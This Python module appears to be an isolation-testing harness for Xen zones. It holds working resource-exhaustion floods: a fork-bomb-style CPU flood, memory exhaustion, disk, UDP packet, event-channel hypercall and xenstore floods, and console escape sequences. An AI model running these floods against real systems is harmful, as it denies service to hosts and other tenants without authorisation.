# Copyright (c) 2026, the ringfence.zones authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Take as much as there is for some seconds: of the CPU, memory, disk, network, events, xenstore, or the console. Say how much it was."""

from __future__ import annotations

import fcntl
import mmap
import os
import signal
import socket
import struct
import time
from ctypes import addressof, c_char
from itertools import count

_CHUNK = 1 << 20
_PROCESSES = 16
_DISK = 64
"""MiB of the zone's disk that are written again and again."""

_EVENT_CHANNEL_OP, _SEND = 32, 4
_HYPERCALL = 0x305000
_PORTS = range(1, 33)
_XENSTORE_READ, _XENSTORE_HEADER = 2, struct.Struct("<IIII")


def attack(kind: str, seconds: float, target: str = "") -> list[list[object]]:
    """Flood.

    :param kind: what is taken.
    :param target: the address to send to, the device to write to, or the node to ask for.
    :return: how often it was done, as the word on the attempt.
    """
    return [[kind, None, str(_FLOODS[kind](time.monotonic() + seconds, target))]]


def _cpu(until: float, _target: str) -> int:
    """Processes that only count, and are ended and made again, as those of a fork bomb are."""
    made = 0
    children: set[int] = set()
    while time.monotonic() < until:
        while len(children) < _PROCESSES:
            child = os.fork()
            if child == 0:
                end = min(until, time.monotonic() + 1)
                while time.monotonic() < end:
                    pass
                os._exit(0)
            children.add(child)
            made += 1
        children.discard(os.wait()[0])
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    return made


def _memory(until: float, _target: str) -> int:
    """Processes that take all memory until the kernel ends them; it is told to choose them first. The MiB that they took.

    Where it does not choose one, a system without free memory hardly moves: each such process has an alarm, which needs none to end it.
    """
    taken = mmap.mmap(-1, mmap.PAGESIZE)
    while (left := until - time.monotonic()) > 0:
        child = os.fork()
        if child == 0:
            signal.setitimer(signal.ITIMER_REAL, left)
            with open("/proc/self/oom_score_adj", "w", encoding="ascii") as handle:
                handle.write("1000")
            held = []
            while True:
                held.append(b"x" * _CHUNK)
                taken[:8] = (int.from_bytes(taken[:8], "little") + 1).to_bytes(8, "little")
        os.waitpid(child, 0)
    return int.from_bytes(taken[:8], "little")


def _disk(until: float, _target: str) -> int:
    written, chunk = 0, os.urandom(_CHUNK)
    descriptor = os.open("/attack/flood", os.O_WRONLY | os.O_CREAT | os.O_DSYNC, 0o600)
    while time.monotonic() < until:
        os.pwrite(descriptor, chunk, written % _DISK * _CHUNK)
        written += 1
    os.close(descriptor)
    os.unlink("/attack/flood")
    return written


def _packets(until: float, target: str) -> int:
    """The smallest packets, to a port that nothing leads to."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setblocking(False)
        sender.connect((target, 9))
        while time.monotonic() < until:
            try:
                sender.send(b"")
                sent += 1
            except OSError:  # The queue is full, or the host has refused it.
                time.sleep(0)
    return sent


def _events(until: float, _target: str) -> int:
    """Wake up the host's programs and drivers which the kernel's own event channels lead to."""
    device = os.open("/attack/dev/xen/privcmd", os.O_RDWR)
    page = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
    request = struct.pack("<6Q", _EVENT_CHANNEL_OP, _SEND, addressof(c_char.from_buffer(page)), 0, 0, 0)

    def sends(port: int) -> bool:
        page[:4] = port.to_bytes(4, "little")
        try:
            fcntl.ioctl(device, _HYPERCALL, bytearray(request))
        except OSError:
            return False
        return True

    ports, sent = [port for port in _PORTS if sends(port)], 0
    while ports and time.monotonic() < until:
        sent += sum(map(sends, ports))
    return sent


def _xenstore(until: float, target: str) -> int:
    """Ask for a node, over and over."""
    device = os.open("/attack/dev/xen/xenbus", os.O_RDWR)
    payload = f"{target}\0".encode()
    for asked in count():
        if time.monotonic() >= until:
            return asked
        os.write(device, _XENSTORE_HEADER.pack(_XENSTORE_READ, 1, 0, len(payload)) + payload)
        answer = b""
        while len(answer) < _XENSTORE_HEADER.size or len(answer) < _XENSTORE_HEADER.size + _XENSTORE_HEADER.unpack_from(answer)[3]:
            answer += os.read(device, 4096)
    return 0


def _console(until: float, target: str) -> int:
    """Lines that a careless terminal would obey; the bytes that were taken."""
    written, lines = 0, b"\x1b[2J\x1b]0;owned\x07 flood\n" * 128
    descriptor = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_NOCTTY, 0o600)
    while time.monotonic() < until:
        written += os.write(descriptor, lines)
    os.close(descriptor)
    return written


_FLOODS = {
    "cpu": _cpu,
    "memory": _memory,
    "disk": _disk,
    "packets": _packets,
    "events": _events,
    "xenstore": _xenstore,
    "console": _console,
}
